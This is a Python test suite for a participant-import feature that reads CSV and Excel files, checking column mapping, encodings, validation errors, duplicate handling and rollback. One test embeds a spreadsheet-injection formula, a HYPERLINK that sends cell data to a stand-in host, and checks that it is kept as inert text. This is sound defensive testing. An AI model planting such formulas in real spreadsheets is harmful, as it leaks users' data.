"""Importing participants from CSV and Excel: preview first, then one transaction."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from idg_desktop.errors import InvalidInput
from idg_desktop.services.importing import MAX_ROWS, apply_import, read_participants
from idg_desktop.services.participants import ParticipantData, add_participant, list_participants
from idg_desktop.storage.document import AssessmentDocument

TWELVE = [
    ("Amina Diallo", "Enforcement", "Investigations", "F", "External facilitator", "Customs", "no"),
    ("Jean Martin", "HR", "Recruitment", "male", "local-facilitator", "", ""),
    ("Li Wei", "Audit", "Internal audit", "woman", "National contact point", "customs", "0"),
    ("Carlos Pérez", "Direction", "", "man", "Senior management", "Customs", "false"),
    ("Fatima Zahra", "Legal", "Law", "female", "Contributor", "Government agency", "yes"),
    ("Ola Nordmann", "", "", "other", "Rapporteur", "Private sector", "x"),
    ("Sam Taylor", "IT", "Systems", "undisclosed", "observer", "Civil society", "External"),
    ("Ngozi Okafor", "Risk", "Profiling", "prefer not to say", "", "International organization", 1),
    ("Marie Dubois", "Training", "", "Femme", "rapporteur", "Customs", "Internal"),
    ("Pierre Leroy", "Ports", "Cargo", "Homme", "contributor", "customs", "non"),
    ("Aiko Sato", "Valuation", "", "", "Observer", "Private sector", "oui"),
    ("Ravi Kumar", "Tariff", "Classification", "M", "Contributor", "Government agency", True),
]
ENGLISH = ["Full name", "Department", "Area of expertise", "Sex", "Role", "Stakeholder type"]


def write_xlsx(path: Path, header: list[str], rows: list[list[object]], **sheets) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Participants"
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    for name in sheets:
        book.create_sheet(name).append(["Something else"])
    book.save(path)
    return path


def write_csv(path: Path, rows: list[list[object]], *, delimiter=",", encoding="utf-8") -> Path:
    with path.open("w", encoding=encoding, newline="") as stream:
        csv.writer(stream, delimiter=delimiter).writerows(rows)
    return path


def test_xlsx_with_twelve_participants_imports_fully(new_file: Path, tmp_path: Path):
    source = write_xlsx(
        tmp_path / "list.xlsx",
        [*ENGLISH, "Internal/External", "E-mail", "Shoe size"],
        [[*row, f"p{i}@example.org", 42] for i, row in enumerate(TWELVE)],
        Notes=True,
    )
    preview = read_participants(source)
    assert [row.line for row in preview.rows] == list(range(2, 14))
    assert all(not row.errors and not row.warnings for row in preview.rows)
    assert preview.columns["Sex"] == "gender" and preview.columns["E-mail"] == "email"
    assert preview.unknown_columns == ["Shoe size"]
    seen: list[tuple[int, int]] = []
    document = AssessmentDocument.open(new_file)
    try:
        created = apply_import(document, preview, progress=lambda d, t: seen.append((d, t)))
    finally:
        document.close()
    assert len(created) == 12 and seen[-1] == (12, 12)
    reopened = AssessmentDocument.open(new_file, read_only=True)
    try:
        people = {p.name: p for p in list_participants(reopened)}
        assert len(people) == 12
        assert all(p.id and p.created_at and p.origin and p.revision == 1 for p in people.values())
        amina, jean, ngozi = people["Amina Diallo"], people["Jean Martin"], people["Ngozi Okafor"]
        assert (amina.gender, amina.role, amina.stakeholder, amina.external) == (
            "female",
            "external-facilitator",
            "customs",
            False,
        )
        assert (amina.unit, amina.expertise, amina.email) == (
            "Enforcement",
            "Investigations",
            "p0@example.org",
        )
        assert (jean.gender, jean.role, jean.stakeholder) == (
            "male",
            "local-facilitator",
            "customs",
        )
        assert (ngozi.gender, ngozi.role, ngozi.external) == ("undisclosed", "contributor", True)
        assert people["Li Wei"].role == "national-contact-point"
        assert people["Carlos Pérez"].role == "senior-management"
        assert people["Ola Nordmann"].stakeholder == "private-sector"
        assert people["Ola Nordmann"].gender == "other" and people["Ola Nordmann"].external
        assert people["Sam Taylor"].stakeholder == "civil-society"
        assert people["Ngozi Okafor"].stakeholder == "international-organization"
        assert people["Fatima Zahra"].stakeholder == "government-agency"
        assert people["Marie Dubois"].gender == "female" and not people["Marie Dubois"].external
        assert people["Aiko Sato"].gender == "undisclosed" and people["Aiko Sato"].external
        assert people["Ravi Kumar"].external and people["Ravi Kumar"].gender == "male"
    finally:
        reopened.close()


def test_csv_with_semicolons_bom_and_french_headers(new_file: Path, tmp_path: Path):
    rows = [
        ["Nom", "Unité", "Domaine", "Sexe", "Rôle", "Type", "Externe", "Courriel"],
        ["Élodie Faure", "Contrôle", "Audit", "femme", "Rapporteur", "Douane", "non", "e@d.fr"],
        ["Moussa Traoré", "Frontières", "", "homme", "observateur", "Secteur privé", "oui", ""],
    ]
    source = write_csv(tmp_path / "liste.csv", rows, delimiter=";", encoding="utf-8-sig")
    assert source.read_bytes().startswith(b"\xef\xbb\xbf")
    preview = read_participants(source)
    assert preview.unknown_columns == []
    assert set(preview.columns.values()) == {
        "name", "unit", "expertise", "gender", "role", "stakeholder", "external", "email",
    }  # fmt: skip
    first, second = (row.data for row in preview.rows)
    assert first == ParticipantData(
        "Élodie Faure", "Contrôle", "Audit", False, "customs", "female", "rapporteur", "e@d.fr"
    )
    assert second is not None and second.external and second.stakeholder == "private-sector"
    assert (second.gender, second.role) == ("male", "observer")


def test_cp1252_and_tab_separated(tmp_path: Path):
    source = write_csv(
        tmp_path / "old.txt", [["Name", "Unit"], ["José Müller", "Trésor"]], delimiter="\t",
        encoding="cp1252",
    )  # fmt: skip
    (row,) = read_participants(source).rows
    assert row.data is not None and (row.data.name, row.data.unit) == ("José Müller", "Trésor")


def test_row_errors_are_reported_and_good_rows_import(new_file: Path, tmp_path: Path):
    source = write_xlsx(
        tmp_path / "errors.xlsx",
        ["Name", "Role", "Gender", "Stakeholder", "External"],
        [
            ["Good One", "contributor", "F", "", ""],
            ["Bad Role", "chairman", "M", "", ""],
            [None, "observer", "F", "", ""],
            [],
            ["Bad Gender", "observer", "robot", "", ""],
            ["Bad Kind", "", "", "aliens", "maybe"],
            ["Good Two", "", "", "", ""],
        ],
    )
    preview = read_participants(source)
    by_line = {row.line: row for row in preview.rows}
    assert sorted(by_line) == [2, 3, 4, 6, 7, 8]
    assert by_line[3].errors[0].startswith("Row 3: role 'chairman' is not a role; use one of")
    assert "external-facilitator" in by_line[3].errors[0]
    assert by_line[4].errors == ["Row 4: the name is missing."]
    assert by_line[6].errors[0].startswith("Row 6: gender 'robot' is not a gender; use one of")
    assert len(by_line[7].errors) == 2 and "stakeholder type 'aliens'" in by_line[7].errors[0]
    assert "external 'maybe'" in by_line[7].errors[1]
    assert [row.line for row in preview.valid_rows] == [2, 8]
    document = AssessmentDocument.open(new_file)
    try:
        created = apply_import(document, preview)
        assert [p.name for p in created] == ["Good One", "Good Two"]
        assert [p.name for p in list_participants(document)] == ["Good One", "Good Two"]
    finally:
        document.close()


@pytest.mark.parametrize(
    ("name", "content", "problem"),
    [
        ("damaged.xlsx", os.urandom(4000), "damaged or is not an Excel"),
        ("truncated.xlsx", None, "damaged or is not an Excel"),
        ("empty.csv", b"", "is empty"),
        ("blank.xlsx", "blank", "is empty"),
        ("no-name.csv", b"Unit;Role\nHR;observer\n", "has no name column"),
        ("no-name.xlsx", "no-name", "has no name column"),
        ("headers-only.csv", b"Name,Unit\n\n", "no participant rows"),
        ("picture.png", b"\x89PNG\r\n", "not a CSV or Excel"),
        ("old.xls", b"\xd0\xcf\x11\xe0", "Excel 97-2003"),
        ("binary.csv", b"Name\n\x00\x01\x02", "not a text"),
    ],
)
def test_unreadable_files_are_refused_and_leave_the_assessment_unchanged(
    new_file: Path, tmp_path: Path, name: str, content: object, problem: str
):
    path = tmp_path / name
    if content == "blank":
        openpyxl.Workbook().save(path)
    elif content == "no-name":
        write_xlsx(path, ["Unit", "Gender"], [["HR", "F"]])
    elif content is None:
        write_xlsx(path, ["Name"], [["A"]])
        path.write_bytes(path.read_bytes()[:300])
    else:
        assert isinstance(content, bytes)
        path.write_bytes(content)
    before = new_file.read_bytes()
    with pytest.raises(InvalidInput) as refused:
        read_participants(path)
    message = str(refused.value)
    assert str(path) in message and problem in message and "\n" not in message
    assert new_file.read_bytes() == before


def test_missing_file_is_refused(tmp_path: Path):
    with pytest.raises(InvalidInput, match="does not exist"):
        read_participants(tmp_path / "nowhere.csv")


def test_too_many_rows(tmp_path: Path):
    source = write_csv(tmp_path / "big.csv", [["Name"], *([f"P{i}"] for i in range(MAX_ROWS + 1))])
    with pytest.raises(InvalidInput, match=f"more than {MAX_ROWS}"):
        read_participants(source)


def test_duplicates_are_warned_and_skipped(new_file: Path, tmp_path: Path):
    document = AssessmentDocument.open(new_file)
    try:
        add_participant(document, ParticipantData(name="Émile Zola"))
        source = write_csv(
            tmp_path / "dups.csv",
            [["Name"], ["ÉMILE  ZOLA"], ["Ada Lovelace"], ["ada lovelace"], ["Grace Hopper"]],
        )
        preview = read_participants(source, document=document)
        warnings = {row.line: row.warnings for row in preview.rows}
        assert warnings[2] == ["Row 2: 'ÉMILE ZOLA' is already in the assessment."]
        assert warnings[3] == [] and warnings[5] == []
        assert warnings[4] == ["Row 4: 'ada lovelace' is also on row 3."]
        created = apply_import(document, preview)
        assert [p.name for p in created] == ["Ada Lovelace", "Grace Hopper"]
        again = apply_import(document, read_participants(source))
        assert again == [] and len(list_participants(document)) == 3
        everyone = apply_import(document, preview, skip_existing=False)
        assert len(everyone) == 4 and len(list_participants(document)) == 7
    finally:
        document.close()


def test_import_is_one_transaction(new_file: Path, tmp_path: Path):
    source = write_csv(tmp_path / "l.csv", [["Name"], ["A One"], ["B Two"], ["C Three"]])
    preview = read_participants(source)
    before = new_file.read_bytes()

    def fail_half_way(done: int, total: int) -> None:
        if done == 2:
            raise RuntimeError("power cut")

    document = AssessmentDocument.open(new_file)
    try:
        with pytest.raises(RuntimeError):
            apply_import(document, preview, progress=fail_half_way)
        assert list_participants(document) == []
    finally:
        document.close()
    assert new_file.read_bytes() == before


def test_formula_looking_cells_are_plain_text(new_file: Path, tmp_path: Path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    book_path = tmp_path / "formula.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["Name", "Unit"])
    book.active.append([formula, "=1+1"])
    for cell in book.active[2]:
        cell.data_type = "s"  # a text cell, as Excel stores text typed after a quote
    book.save(book_path)
    csv_path = write_csv(tmp_path / "formula.csv", [["Name", "Unit"], [formula, "=1+1"]])
    for source in (book_path, csv_path):
        (row,) = read_participants(source).rows
        assert row.data is not None and (row.data.name, row.data.unit) == (formula, "=1+1")
    document = AssessmentDocument.open(new_file)
    try:
        (created,) = apply_import(document, read_participants(csv_path))
        assert created.name == formula
    finally:
        document.close()


names = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1
).filter(lambda text: text.split() != [])


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=names)
def test_any_unicode_name_round_trips_through_csv(tmp_path: Path, name: str):
    source = write_csv(tmp_path / "names.csv", [["Name", "Unit"], [name, "HR"]])
    (row,) = read_participants(source).rows
    assert row.errors == []
    assert row.data is not None and row.data.name == " ".join(name.split())
    assert row.data.unit == "HR"


def test_sheet_named_participants_is_preferred(tmp_path: Path):
    path = tmp_path / "book.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "Instructions"
    book.active.append(["Fill in the second sheet"])
    sheet = book.create_sheet("participants")
    sheet.append(["Name", "Role"])
    sheet.append(["Kofi Mensah", "NCP"])
    book.save(path)
    (row,) = read_participants(path).rows
    assert row.data is not None and (row.data.name, row.data.role) == (
        "Kofi Mensah",
        "national-contact-point",
    )
